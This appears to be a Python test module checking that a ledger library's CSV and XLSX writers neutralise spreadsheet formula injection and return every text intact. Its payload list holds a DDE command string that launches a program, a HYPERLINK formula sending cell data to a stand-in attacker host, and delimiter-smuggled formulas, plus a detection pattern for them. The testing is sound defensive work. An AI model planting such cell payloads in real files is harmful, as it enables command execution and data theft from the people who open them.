"""S7: texts that a spreadsheet program would run, written to CSV and XLSX and read back.

What counts as run: a CSV field that, as Excel or LibreOffice would cut the file (at commas, and at
semicolons where that is the list separator), begins with = + - @, a tabulator or a line end after
any blanks; a workbook cell that is stored as a formula or a link.
"""

from __future__ import annotations

import csv
import random
import re
from decimal import Decimal
from io import BytesIO, StringIO

import openpyxl
import pyarrow as pa

from net30.kernel.plugins import load
from net30.ledger.compute import Column
from net30.ledger.readers.any_file import read_table
from tests.proofs.proof import Outcome

ID = "S7"
TITLE = "cells that a spreadsheet runs, or texts that do not come back"
SMALL = 600
FULL = 50_000

WRITERS = "net30.ledger.writers"
COLUMNS = 4
_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "−", "﹦")
_BLANKS = ("", " ", "  ", "\u00a0", "\ufeff", "\u200b", "\u2003", "'", "''", '"', "\t ")
_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"click")',
    "SUM(1;2)",
    "A1,B2",
    "WEBSERVICE(x)",
    "Dakar",
    "",
    ";=1+1",
    ",=1+1",
    '","=1+1',
    '";"=1+1',
    "\n=1+1",
    '"\n"=1+1',
    "\r\n@SUM(A1)",
)
_RUNS = re.compile(r"^[\s\ufeff\u200b-\u200f\u2060]*[=+\-@＝＋－＠−﹦﹢﹣﹫]")
_NUMBER = re.compile(r"-?\d+[.,]\d{2}")


def hostile(chance: random.Random) -> str:
    """One text that may be run, or only looks like it."""
    lead = chance.choice((*_LEADS, "", "a", "1"))
    return chance.choice(_BLANKS) + lead + chance.choice(_BODIES)


def tables(size: int, chance: random.Random) -> pa.Table:
    """Rows of hostile texts beside amounts, negative ones too."""
    columns: dict[str, Column] = {
        f"text{at}": pa.array([hostile(chance) for _ in range(size)], pa.string())
        for at in range(COLUMNS)
    }
    cents = [Decimal(chance.randrange(-(10**9), 10**9)).scaleb(-2) for _ in range(size)]
    columns["amount"] = pa.array(cents, pa.decimal128(20, 2))
    return pa.table(columns)


def run_by_csv(content: bytes) -> int:
    """Count the fields that would be run, however a program cuts the file."""
    text = content.decode("utf-8-sig")
    return sum(
        1
        for delimiter in (",", ";")
        for row in csv.reader(StringIO(text, newline=""), delimiter=delimiter)
        for field in row
        if _RUNS.match(field) and not _NUMBER.fullmatch(field)
    )


def run_by_xlsx(content: bytes) -> int:
    """Count the cells that are formulas or links."""
    book = openpyxl.load_workbook(BytesIO(content))
    return sum(
        1
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or cell.hyperlink
    )


def lost(table: pa.Table, content: bytes) -> int:
    """Count the texts that do not come back to the letter."""
    sheet = read_table(content)
    result = 0
    for at in range(COLUMNS):
        before = table[at].to_pylist()
        after = sheet.column(f"text{at}").to_pylist()
        result += sum(
            _unended(one) != _unended(other) for one, other in zip(before, after, strict=True)
        )
    return result


def _unended(text: str | None) -> str:
    """Without line ends' kinds, which XML and CSV programs are free to change."""
    return (text or "").replace("\r\n", "\n").replace("\r", "\n")


def run(size: int, seed: int) -> Outcome:
    """Write `size` rows in each format, look at every cell, read all of it back."""
    chance = random.Random(seed)
    failures = tries = 0
    details = []
    left = size
    while left > 0:
        rows = min(left, 5_000)
        left -= rows
        table = tables(rows, chance)
        for name in ("csv", "csv_excel", "xlsx"):
            content = load(WRITERS, name).write(table)
            executed = run_by_xlsx(content) if name == "xlsx" else run_by_csv(content)
            missing = lost(table, content)
            tries += rows * COLUMNS
            failures += executed + missing
            if executed or missing:
                details.append(f"{name}: {executed} would run, {missing} did not come back")
    return Outcome(tries, failures, "; ".join(details) or "csv, csv for Excel, xlsx")


def test_no_cell_is_run_and_every_text_comes_back() -> None:
    outcome = run(SMALL, seed=7)
    assert outcome.failures == 0, outcome.detail


def test_a_writer_without_the_guard_is_noticed() -> None:
    import pyarrow.csv as pv

    sink = BytesIO()
    pv.write_csv(tables(50, random.Random(1)), sink)
    assert run_by_csv(sink.getvalue()) > 0


def test_a_workbook_writer_that_takes_texts_for_formulas_is_noticed() -> None:
    import xlsxwriter  # type: ignore[import-untyped] # it has no types

    sink = BytesIO()
    with xlsxwriter.Workbook(sink) as book:
        book.add_worksheet().write(0, 0, "=1+1")
    assert run_by_xlsx(sink.getvalue()) == 1
